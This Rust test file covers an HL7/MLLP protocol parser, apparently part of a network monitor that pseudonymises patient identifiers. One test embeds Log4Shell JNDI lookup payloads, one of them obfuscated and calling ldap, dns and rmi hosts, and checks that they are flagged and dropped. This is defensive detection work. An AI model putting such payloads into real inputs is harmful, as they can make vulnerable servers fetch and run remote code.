use super::probe::probe;
use super::session::Hl7Session;
use crate::context::Context;
use crate::half::Half;
use crate::limits;
use crate::protocols::Dir::{Orig, Resp};
use crate::protocols::{Dir, Probe, Session};
use crate::testing::{identity, output, play, rows, PlainRow};

const ADT: &str = "MSH|^~\\&|EPIC^1.2.3^ISO|NORTH|PACS|RAD|20260101120000.5+0100||ADT^A01^ADT_A01|C1|P|2.5.1||||||UNICODE UTF-8\r\
    SFT|Maker Inc^L|7.2|Gateway\rEVN||20260101\rPID|1|OLD1|MRN1^^^H^MR~X2||DOE^JANE\rPV1|1|I\r";
const ACK: &str = "MSH|^~\\&|PACS|RAD|EPIC|NORTH|20260101||ACK^A01|A1|P|2.5.1\rMSA|AA|C1|free text\r";

fn mllp(message: &str) -> Vec<u8> {
    [b"\x0b", message.as_bytes(), b"\x1c\r"].concat()
}

/// Rows without what depends on how the bytes were cut, in the order of their control ids.
fn played(script: &[(Dir, &[u8])], cut: usize) -> Vec<PlainRow> {
    let mut got = play(&mut Hl7Session::default(), script, cut).remove("hl7").unwrap_or_default();
    for row in &mut got {
        row.remove("ts");
        if row["latency"] != "-" {
            row.insert("latency".into(), "some".into());
        }
    }
    got
}

/// Rows that do not depend on the cut.
fn uncut(script: &[(Dir, &[u8])]) -> Vec<PlainRow> {
    let whole = played(script, usize::MAX);
    for cut in [1, 7, 1460] {
        assert_eq!(played(script, cut), whole, "cut {cut}");
    }
    whole
}

/// Rows that do not depend on the cut, of a script that may also end anywhere.
fn check(script: &[(Dir, &[u8])]) -> Vec<PlainRow> {
    let whole = uncut(script);
    for (n, (dir, bytes)) in script.iter().enumerate() {
        for end in (0..bytes.len()).step_by(bytes.len().div_ceil(4000).pow(2).max(1)) {
            let mut part: Vec<_> = script[..n].to_vec();
            part.push((*dir, &bytes[..end]));
            played(&part, usize::MAX);
        }
    }
    whole
}

#[test]
fn a_message_and_its_acknowledgement() {
    let (adt, ack) = (mllp(ADT), mllp(ACK));
    let rows = check(&[(Orig, &adt), (Resp, &ack)]);
    assert_eq!(rows.len(), 2);
    let (message, answer) = (
        &rows.iter().find(|r| r["is_ack"] == "false").unwrap(),
        &rows.iter().find(|r| r["is_ack"] == "true").unwrap(),
    );
    let expected = [
        ("kind", "mllp"),
        ("sending_application", "EPIC"),
        ("sending_facility", "NORTH"),
        ("receiving_application", "PACS"),
        ("receiving_facility", "RAD"),
        ("message_type", "ADT"),
        ("trigger_event", "A01"),
        ("message_structure", "ADT_A01"),
        ("control_id", "C1"),
        ("processing_id", "P"),
        ("version", "2.5.1"),
        ("charset", "UNICODE UTF-8"),
        ("software_vendor", "Maker Inc"),
        ("software_version", "7.2"),
        ("software_product", "Gateway"),
        ("segments", "[MSH:1, SFT:1, EVN:1, PID:1, PV1:1]"),
        ("latency", "some"),
        ("encoding_characters", "^~\\&"),
        ("ts_message", "1767265200500000"),
        ("partial", "false"),
        ("malformed", "-"),
    ];
    for (column, value) in expected {
        assert_eq!(message[column], value, "{column}");
    }
    assert_eq!(message["message_bytes"], ADT.len().to_string());
    assert_eq!(message["patient"], output().keys.pseudonym("MRN1").unwrap());
    for (column, value) in [
        ("message_type", "ACK"),
        ("ack_code", "AA"),
        ("acked_control_id", "C1"),
        ("latency", "-"),
        ("control_id", "A1"),
    ] {
        assert_eq!(answer[column], value, "{column}");
    }
    let all = format!("{rows:?}");
    assert!(!all.contains("MRN1") && !all.contains("DOE") && !all.contains("free text"));
}

#[test]
fn a_look_up_in_any_field_is_marked_and_not_kept() {
    let note = "NTE|1||${${lower:j}ndi:ldap://10.0.0.9/Mustermann}";
    for line in [note, "OBX|1|TX|${jndi:dns://Mustermann.x}", "PID|1||${jndi:rmi://x/Mustermann}"] {
        let message = mllp(&format!("{ADT}{line}\r"));
        let rows = uncut(&[(Orig, &message)]);
        assert_eq!(rows[0]["marks"], "[exploit-log4shell]");
        assert!(!format!("{rows:?}").contains("10.0.0.9"));
    }
    let row = &uncut(&[(Orig, &mllp(&format!("{ADT}OBX|1|NM|x||5 $|%{{vol}} ${{x}}\r")))])[0];
    assert_eq!(row["marks"], "[]");
}

#[test]
fn raw_messages_end_where_the_next_begins() {
    let second = ADT.replace("|C1|", "|C2|");
    let stream = [ADT, &second].concat();
    let rows = check(&[(Orig, stream.as_bytes()), (Resp, ACK.as_bytes())]);
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().all(|r| r["kind"] == "raw" && r["partial"] == "false"));
    assert_eq!(rows.iter().filter(|r| r["latency"] == "some").count(), 1);
    assert!(check(&[(Orig, &stream.as_bytes()[..stream.len() - 1])])
        .iter()
        .any(|r| r["control_id"] == "C2" && r["partial"] == "true"));
}

#[test]
fn a_lost_end_block_does_not_lose_the_next_message() {
    let stream = [b"\x0b".as_slice(), ADT.as_bytes(), &mllp(&ADT.replace("|C1|", "|C2|"))].concat();
    let rows = check(&[(Orig, &stream)]);
    let of = |id: &str| rows.iter().find(|r| r["control_id"] == id).unwrap();
    assert_eq!(
        (of("C1")["malformed"].as_str(), of("C2")["malformed"].as_str()),
        ("no end block", "-")
    );
    assert_eq!(of("C1")["message_bytes"], ADT.len().to_string());
}

#[test]
fn an_id_is_one_patient_in_every_declared_character_set() {
    let wanted = output().keys.pseudonym("\u{416}-17").unwrap();
    for (charset, id) in [
        ("8859/5", &b"\xb6-17"[..]),
        ("8859/5~UNICODE UTF-8", b"\xb6-17"),
        ("UNICODE UTF-8", b"\xd0\x96-17"),
        ("", b"\xd0\x96-17"),
    ] {
        let head = format!("\x0bMSH|^~\\&|A|B|C|D|20260101||ADT^A01|1|P|2.5||||||{charset}\rPID|1||");
        let message = [head.as_bytes(), id, b"^^^H^MR\r\x1c\r"].concat();
        assert_eq!(check(&[(Orig, &message)])[0]["patient"], wanted, "{charset}");
    }
}

#[test]
fn delimiters_and_line_ends_as_they_come() {
    let other = "MSH$%*!+$MON$ICU$X$Y$20260101$$ORU%R01$C9$P$2.3\nPID$1$$A!S!B%%%H*C$\r\nORC$RE$$F1\nOBR$1$P1$F2\r\n";
    let rows = check(&[(Orig, &mllp(other))]);
    let keys = output().keys;
    assert_eq!(
        (rows[0]["message_type"].as_str(), rows[0]["trigger_event"].as_str()),
        ("ORU", "R01")
    );
    assert_eq!(rows[0]["patient"], keys.pseudonym("A%B").unwrap());
    assert_eq!(rows[0]["order_id"], keys.pseudonym("P1").unwrap());
    assert_eq!(rows[0]["segments"], "[MSH:1, PID:1, ORC:1, OBR:1]");
}

#[test]
fn orders_and_equipment() {
    let prt = format!("PRT|1|AD||EQUIP|||||{}", "|PUMP-7^^0011223344556677^EUI-64|x|x|x|x|x|DI-0815");
    let obx = format!(
        "OBX|1|NM|1^HR||80{}",
        format_args!("{}MON-1^^00AA^EUI-64~(01)04012345678901(21)7", "|".repeat(13))
    );
    let text = format!(
        "{}OBR|1|P1|F1{}ACC7^x\rIPC||RP|1.2.3\r{obx}\r{obx}\r{prt}\r",
        ADT.replace("ADT^A01", "ORU^R01"),
        "|".repeat(15)
    );
    let rows = check(&[(Orig, &mllp(&text))]);
    let keys = output().keys;
    assert_eq!(rows[0]["device_ids"], "[MON-1, PUMP-7]");
    assert_eq!(rows[0]["udi"], "[(01)04012345678901(21)7, DI-0815]");
    assert_eq!(rows[0]["accession"], keys.pseudonym("ACC7").unwrap());
    assert_eq!(rows[0]["study"], keys.pseudonym("1.2.3").unwrap());
    assert!(rows[0]["segments"].contains("OBX:2"));
}

#[test]
fn every_patient_of_a_message_is_counted() {
    let keys = output().keys;
    let list = |ids: &[&str]| {
        let ids: Vec<_> = ids.iter().map(|id| keys.pseudonym(id).unwrap()).collect();
        format!("[{}]", ids.join(", "))
    };
    let of = |more: &str| check(&[(Orig, &mllp(&format!("{ADT}{more}")))]).remove(0);
    let merge = of("MRG|OLD7^^^H^MR~Y||ACC1\rPID|2||mrn1 \rPID|3||MRN3~Z\rMRG|\"\"\rMRG|\rPID|4|OLD4\r");
    assert_eq!(merge["patient"], keys.pseudonym("MRN1").unwrap());
    assert_eq!(merge["patients"], list(&["MRN1", "OLD7", "MRN3", "OLD4"]));
    assert_eq!(of("")["patients"], list(&["MRN1"]));
    assert_eq!(check(&[(Resp, &mllp(ACK))])[0]["patients"], "[]");
    assert_eq!(of("PID|1||\"\"\r")["patients"], list(&["MRN1"]));
    let many: String = (0..1000).map(|n| format!("PID|1||N{}\r", n % 600)).collect();
    assert_eq!(of(&many)["patients"].split(',').count(), limits::HL7_PATIENTS);
    assert!(of(&format!("{many}PRT|1|||||||||PUMP-7\r"))["device_ids"].contains("PUMP-7"));
}

#[test]
fn batches_name_their_messages() {
    let batch = format!(
        "FHS|^~\\&|A|B|C|D|2026||name||F1|FC\rBHS|^~\\&|A|B|C|D|2026||||BC\r{ADT}{}BTS|2\rFTS|1\r",
        ADT.replace("|C1|", "|C2|")
    );
    for bytes in [mllp(&batch), batch.clone().into_bytes()] {
        let rows = check(&[(Orig, &bytes)]);
        assert_eq!(rows.len(), 2);
        assert!(
            rows.iter().all(|r| r["kind"] == "batch"
                && r["batch_id"] == "BC"
                && r["malformed"] == "-"
                && r["message_bytes"] == ADT.len().to_string()),
            "{rows:?}"
        );
    }
    let rows = check(&[(Orig, &mllp("BHS|^~\\&|A|B|C|D|2026||||BC\rBTS|0\r"))]);
    assert_eq!(
        (rows.len(), rows[0]["kind"].as_str(), rows[0]["sending_application"].as_str()),
        (1, "batch", "A")
    );
}

/// Plays `bytes` in parts of random size; some seeds give small ones, some large.
fn scattered(bytes: &[u8], seed: u32) -> PlainRow {
    let (mut out, mut id, mut session, mut half) = (output(), identity(2575, 6), Hl7Session::default(), Half::default());
    let mut state = seed;
    let mut rest = bytes;
    while !rest.is_empty() {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        let most = 1 + (state >> 8) as usize % (1460 << (seed % 7));
        let (part, after) = rest.split_at(most.min(rest.len()));
        half.feed(&mut session, Orig, part, 0, &mut id, &mut out);
        assert!(half.held() <= 4 * limits::HL7_SEGMENT, "held {}", half.held());
        rest = after;
    }
    let mut cx = Context {
        ts: 0,
        offset: 0,
        identity: &mut id,
        out: &mut out,
    };
    session.end(&mut cx);
    rows(&mut out).remove("hl7").unwrap().remove(0)
}

/// A message with a document of `size` characters in OBX-5, and what follows it.
fn document(size: usize) -> String {
    format!(
        "{ADT}OBX|1|ED|PDF^^L|1|^application^pdf^Base64^{}||||||F|||2026||||CAM-1^^0A0B^EUI-64~CAM-2{}\rOBX|2|TX|||end\rPRT|1|||||||||PUMP-7\rPID|2||MRN2\r",
        "QUJD".repeat(size / 4),
        "|x".repeat(3)
    )
}

#[test]
fn documents_pass_and_what_stands_around_them_is_read() {
    let keys = output().keys;
    let text = document(3 << 20);
    let bytes = mllp(&text);
    let row = scattered(&bytes, 0);
    let patients = format!("[{}, {}]", keys.pseudonym("MRN1").unwrap(), keys.pseudonym("MRN2").unwrap());
    for (column, value) in [
        ("message_bytes", text.len().to_string().as_str()),
        ("malformed", "-"),
        ("partial", "false"),
        ("device_ids", "[CAM-1, CAM-2, PUMP-7]"),
        ("segments", "[MSH:1, SFT:1, EVN:1, PID:2, PV1:1, OBX:2, PRT:1]"),
        ("patients", &patients),
    ] {
        assert_eq!(row[column], value, "{column}");
    }
    for seed in 1..8 {
        assert_eq!(scattered(&bytes, seed), row, "seed {seed}");
    }
    // Around the size from which a segment no longer stands together.
    for size in (limits::HL7_SEGMENT - 120..limits::HL7_SEGMENT).step_by(4) {
        let row = scattered(&mllp(&document(size)), 3);
        assert_eq!(
            (row["device_ids"].as_str(), row["malformed"].as_str()),
            ("[CAM-1, CAM-2, PUMP-7]", "-")
        );
        assert_eq!(row["patients"], patients);
    }
    let rows = check(&[(Orig, &mllp(&document(100_000)))]);
    assert_eq!((rows.len(), rows[0]["device_ids"].as_str()), (1, "[CAM-1, CAM-2, PUMP-7]"));
}

#[test]
fn long_segments_of_every_kind() {
    let filler = "x".repeat(limits::HL7_SEGMENT);
    let of = |text: &str| uncut(&[(Orig, &mllp(text))]);
    // The head itself, with delimiters of its own.
    let head = of(&format!("MSH$%*!+$MON${filler}$X$Y$20260101$$ORU%R01$C9$P$2.3\rPID$1$$A1\r"));
    assert_eq!(
        (
            head[0]["sending_application"].as_str(),
            head[0]["control_id"].as_str(),
            head[0]["malformed"].as_str()
        ),
        ("MON", "C9", "-")
    );
    assert_eq!(head[0]["patient"], output().keys.pseudonym("A1").unwrap());
    // An id that is longer than anything of its kind is none; what stands before it in its field is one.
    let id = of(&format!("{ADT}PID|2||{filler}\rPID|3||MRN3^^^H~{filler}|\rMSA|AA|C7\r"));
    assert_eq!(id[0]["patients"].split(',').count(), 2);
    assert_eq!(
        id[0]["acked_control_id"],
        output().keys.pseudonym("C7").unwrap(),
        "nobody saw what it acknowledges"
    );
    // More than may be held outside long fields.
    let fields = format!("{}|", "x".repeat(1000)).repeat(100);
    let many = of(&format!("{ADT}OBX|1|{fields}|\rOBX|2|\r"));
    assert_eq!(
        (many[0]["malformed"].as_str(), many[0]["partial"].as_str()),
        ("long segment", "false")
    );
    assert!(many[0]["segments"].ends_with("OBX:2]"));
    // No segment at all, and one that never ends.
    assert_eq!(of(&format!("{filler}\rPID|1||X\r"))[0]["malformed"], "no MSH");
    let cut = uncut(&[(Orig, format!("\x0b{ADT}OBX|1|ED|PDF||{filler}").as_bytes())]);
    assert_eq!((cut[0]["partial"].as_str(), cut[0]["control_id"].as_str()), ("true", "C1"));
    assert!(cut[0]["segments"].ends_with("OBX:1]"));
}

#[test]
fn enhanced_mode_has_two_answers() {
    let (commit, application) = (mllp(&ACK.replace("|AA|", "|CA|")), mllp(&ACK.replace("|A1|", "|A2|")));
    let rows = check(&[(Orig, &mllp(ADT)), (Resp, &commit), (Resp, &application)]);
    let codes: Vec<_> = rows.iter().map(|r| r["ack_code"].as_str()).filter(|c| *c != "-").collect();
    assert_eq!(codes, ["CA", "AA"]);
    assert_eq!(rows.iter().filter(|r| r["latency"] == "some").count(), 1);
}

#[test]
fn unanswered_messages_are_bounded() {
    let many: Vec<u8> = (0..100).flat_map(|n| mllp(&ADT.replace("|C1|", &format!("|N{n}|")))).collect();
    assert_eq!(check(&[(Orig, &many)]).len(), 100);
    let mut session = Hl7Session::default();
    let mut out = output();
    let mut id = identity(2575, 6);
    session.data(
        Orig,
        &many,
        &mut Context {
            ts: 0,
            offset: 0,
            identity: &mut id,
            out: &mut out,
        },
    );
    assert_eq!(rows(&mut out)["hl7"].len(), 100 - limits::HL7_OUTSTANDING);
}

#[test]
fn what_is_no_message_says_so() {
    let of = |bytes: &[u8]| check(&[(Orig, bytes)]);
    assert_eq!(of(b"\x0bPID|1||X\r\x1c\r")[0]["malformed"], "no MSH");
    assert_eq!(of(b"\x0bMSHabc\rPID|1\r\x1c\r")[0]["malformed"], "delimiters");
    assert_eq!(
        of(b"\x0bMSH|^~\\&|A|B|C|D|2026||<script>|1\r\x1c\r")[0]["malformed"],
        "message type"
    );
    assert!(of(b"\x0b\x06\x1c\r").is_empty());
}

#[test]
fn a_gap_ends_the_message_and_the_next_is_found() {
    let mut session = Hl7Session::default();
    let mut out = output();
    let mut id = identity(2575, 6);
    let bytes = mllp(ADT);
    session.data(
        Orig,
        &bytes[..150],
        &mut Context {
            ts: 1,
            offset: 0,
            identity: &mut id,
            out: &mut out,
        },
    );
    session.gap(
        Orig,
        500,
        &mut Context {
            ts: 2,
            offset: 650,
            identity: &mut id,
            out: &mut out,
        },
    );
    let rest = [b"20260101|x|PID\rOBX|1\r\x1c\r".as_slice(), &mllp(&ADT.replace("|C1|", "|C2|"))].concat();
    session.data(
        Orig,
        &rest,
        &mut Context {
            ts: 3,
            offset: 650,
            identity: &mut id,
            out: &mut out,
        },
    );
    session.end(&mut Context {
        ts: 4,
        offset: 0,
        identity: &mut id,
        out: &mut out,
    });
    let rows = rows(&mut out).remove("hl7").unwrap();
    let partial: Vec<_> = rows.iter().map(|r| (r["control_id"].as_str(), r["partial"].as_str())).collect();
    assert_eq!(partial, [("C1", "true"), ("C2", "false")]);
}

#[test]
fn of_a_segment_that_was_cut_whole_fields_are_read() {
    let message = mllp(&format!("{ADT}OBR|1|P1|F1\r"));
    let keys = output().keys;
    let (patient, order) = (keys.pseudonym("MRN1").unwrap(), keys.pseudonym("P1").unwrap());
    let after = |text: &str| String::from_utf8_lossy(&message).find(text).unwrap() + text.len();
    for lost in [false, true] {
        for end in after("MSH")..message.len() - 1 {
            let (mut session, mut out, mut id) = (Hl7Session::default(), output(), identity(2575, 6));
            let mut half = Half::default();
            half.feed(&mut session, Orig, &message[..end], 1_000, &mut id, &mut out);
            if lost {
                half.gap(&mut session, Orig, 700, 2_000, &mut id, &mut out);
                let next = mllp(&ADT.replace("|C1|", "|C2|"));
                half.feed(&mut session, Orig, &next, 3_000, &mut id, &mut out);
            }
            half.cut(&mut session, Orig, &mut id, &mut out);
            session.end(&mut Context {
                ts: 9,
                offset: 0,
                identity: &mut id,
                out: &mut out,
            });
            let rows = rows(&mut out).remove("hl7").unwrap();
            assert_eq!(rows.len(), if lost { 2 } else { 1 }, "{end}");
            let row = rows.iter().find(|r| r["control_id"] != "C2").unwrap();
            let shown = |text: &str, value: &str| if end >= after(text) { value.to_owned() } else { "-".to_owned() };
            let partial = if end >= message.len() - 1 { "false" } else { "true" };
            let wanted = [
                ("partial", partial.to_owned()),
                ("malformed", "-".to_owned()),
                ("ts", "1".to_owned()),
                ("sending_application", shown("EPIC^1.2.3^ISO|", "EPIC")),
                ("message_type", shown("ADT_A01|", "ADT")),
                ("control_id", shown("|C1|", "C1")),
                ("charset", shown("UTF-8\r", "UNICODE UTF-8")),
                ("patient", shown("MR~X2|", &patient)),
                ("order_id", shown("OBR|1|P1|", &order)),
            ];
            for (column, value) in wanted {
                assert_eq!(row[column], value, "{column} at {end}, lost {lost}");
            }
        }
    }
}

#[test]
fn an_envelope_without_a_message_is_not_lost_with_the_rest() {
    let (mut session, mut out, mut id) = (Hl7Session::default(), output(), identity(2575, 6));
    let mut half = Half::default();
    half.feed(&mut session, Orig, b"\x0bBHS|^~\\&|A|B|C|D|2026||||BC\r", 1, &mut id, &mut out);
    half.gap(&mut session, Orig, 700, 2, &mut id, &mut out);
    let row = &rows(&mut out)["hl7"][0];
    assert_eq!((row["kind"].as_str(), row["partial"].as_str()), ("batch", "true"));
}

#[test]
fn the_probe_is_strict() {
    let certain: &[&[u8]] = &[
        b"\x0bMSH|^~\\&|A",
        b"MSH|^~\\&|A",
        b"MSH$%*!+$MON",
        b"\x0bBHS|^~\\&|",
        b"\x1c\r\x0bMSH|^~\\&|A|",
        b"x|y|z\rMSH|^~\\&|A|",
        b"4|NM|718^A^LN||1|g\rOBX|5|NM|719\rOBX|6|NM|720",
        b"|A|\rPV1|1\r\x1c\r\x0bMSH|^~\\&|LAB|",
    ];
    for bytes in certain {
        assert_eq!(probe(Orig, bytes), Probe::Certain, "{}", bytes.escape_ascii());
    }
    for bytes in [b"\x0b".as_slice(), b"\x0bMS", b"MSH|^~", b"|A^B^C||1|g/dL|\rOB"] {
        assert_eq!(probe(Resp, bytes), Probe::Unsure, "{}", bytes.escape_ascii());
    }
    let never: &[&[u8]] = &[
        b"GET / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"HTTP/1.1 200 OK\r\nServer: x\r\n",
        b"\x16\x03\x01\x02\x00\x01",
        b"SSH-2.0-OpenSSH_9.2\r\n",
        b"\x01\x00\x00\x00\x00\xcd\x00\x01",
        b"\x00\x00\x00\x85\xffSMB",
        b"220 mail ESMTP\r\n",
        b"\xff\xfb\x01",
        b"\x03\x00\x00\x13",
        b"RFB 003.008\n",
        b"MSHello",
        b"MSH is a name",
        b"\x0bhello",
        b"MSHA^~\\&|A",
        b"USER anonymous\r\n",
        b"\x05\x0d\x02",
        b"random text, no protocol at all",
    ];
    for bytes in never {
        assert_eq!(probe(Orig, bytes), Probe::Never, "{}", bytes.escape_ascii());
    }
}

#[test]
fn damaged_conversations_give_the_same_rows_however_they_are_cut() {
    let small = [mllp(ADT), mllp(&ADT.replace("|C1|", "|C2|")), ADT.as_bytes().to_vec()].concat();
    let large = [mllp(&document(limits::HL7_SEGMENT)), small.clone()].concat();
    let mut state = 1u32;
    let mut random = |below: usize| {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (state >> 8) as usize % below
    };
    for round in 0..160 {
        let mut bytes = if round < 120 { small.clone() } else { large.clone() };
        for _ in 0..1 + random(6) {
            let at = random(bytes.len());
            bytes[at] = b"\r\n\x0b\x1c|M^\xff"[random(8)];
        }
        let script: &[(Dir, &[u8])] = &[(Orig, &bytes), (Resp, &mllp(ACK))];
        let rows = [1, 7, usize::MAX].map(|cut| played(script, cut));
        assert!(rows[0] == rows[2] && rows[1] == rows[2], "round {round}: {}", bytes.escape_ascii());
    }
}

/// Prints what a message with its acknowledgement costs: `cargo test -p wire --release --lib cost_of_a_message -- --ignored --nocapture`.
#[test]
#[ignore = "a measure, not a proof"]
fn cost_of_a_message() {
    let observation = "OBX|1|NM|718-7^Hemoglobin^LN||13.5|g/dL|12-16|N|||F|||20260101||RN1^NURSE\r".repeat(5);
    let oru = format!(
        "{}ORC|RE|P1|F1\rOBR|1|P1|F1|CBC^^L|||20260101\r{observation}",
        ADT.replace("ADT^A01", "ORU^R01")
    );
    let (adt, oru, ack) = (mllp(ADT), mllp(&oru), mllp(ACK));
    let script: Vec<(Dir, &[u8])> = [(Orig, adt.as_slice()), (Resp, &ack), (Orig, &oru), (Resp, &ack)].repeat(5000);
    let best = (0..20)
        .map(|_| {
            let (mut out, mut id, mut session) = (output(), identity(2575, 6), Hl7Session::default());
            let mut halves = [Half::default(), Half::default()];
            let begun = std::time::Instant::now();
            for (n, (dir, bytes)) in script.iter().enumerate() {
                halves[*dir as usize].feed(&mut session, *dir, bytes, n as i64 * 1_000_000, &mut id, &mut out);
            }
            let took = begun.elapsed();
            drop(rows(&mut out));
            took.as_nanos() / 10_000
        })
        .min();
    println!("{} ns a message with its acknowledgement", best.unwrap_or_default());
    let bytes = mllp(&document(64 << 20));
    let begun = std::time::Instant::now();
    scattered(&bytes, 0);
    println!("{} MB/s of a document", bytes.len() as u128 / begun.elapsed().as_micros());
}

#[test]
fn no_header_field_names_a_person() {
    let message = "\x0bMSH|^~\\&|MUSTERMANN|ERIKA|19640812|MRN004711|20260101||ORU^R01^ORU_R01|MRN004711.20260101.1|MAX|Mustermann|||AL|NE||MRN004711 M\r\
        PID|1||MRN004711^^^H^MR||Mustermann^Erika||196408120930\rEVA\rOBX|1|NM|718-7||1|||||||||||||Mustermann Erika Bed 4~MRN004711~MON-17\r\x1c\r";
    let answer = "\x0bMSH|^~\\&|EHR|HOSP|LAB|CORE|20260101||ACK^R01|ACK-MRN004711|P|2.5.1\rMSA|AA|MRN004711.20260101.1\r\x1c\r";
    let rows = play(
        &mut *(super::PROTOCOL.session)(),
        &[(Dir::Orig, message.as_bytes()), (Dir::Resp, answer.as_bytes())],
        7,
    );
    let text = format!("{rows:?}").to_uppercase();
    for planted in ["MUSTERMANN", "ERIKA", "19640812", "MRN004711", "EVA", "MAX"] {
        assert!(!text.contains(planted), "{planted}: {rows:?}");
    }
    let [ack, question] = &rows["hl7"][..] else { panic!("{rows:?}") };
    assert!(question["control_id"].starts_with("k1:"));
    assert_eq!(question["control_id"], ack["acked_control_id"], "they still belong together");
    assert!(question["device_ids"].contains("MON-17"));
    assert_eq!(question["trigger_event"], "R01");
}

#[test]
fn a_plain_control_id_stays_and_one_that_nobody_asked_for_does_not() {
    let message = "\x0bMSH|^~\\&|LAB|CORE|EHR|HOSP|20260101||ADT^A01|M0001|P|2.5.1\rPID|1||MRN004711^^^H^MR||Mustermann^Erika\r\x1c\r";
    let answer = |id: &str| format!("\x0bMSH|^~\\&|EHR|HOSP|LAB|CORE|20260101||ACK^A01|A1|P|2.5.1\rMSA|AA|{id}\r\x1c\r");
    let (first, second) = (answer("M0001"), answer("MRN004711"));
    let script = [
        (Dir::Orig, message.as_bytes()),
        (Dir::Resp, first.as_bytes()),
        (Dir::Resp, second.as_bytes()),
    ];
    let rows = play(&mut *(super::PROTOCOL.session)(), &script, 1000);
    let acked: Vec<&str> = rows["hl7"]
        .iter()
        .filter(|row| row["is_ack"] == "true")
        .map(|row| row["acked_control_id"].as_str())
        .collect();
    assert_eq!(acked[0], "M0001");
    assert!(acked[1].starts_with("k1:"));
    assert!(rows["hl7"].iter().any(|row| row["control_id"] == "M0001"));
}
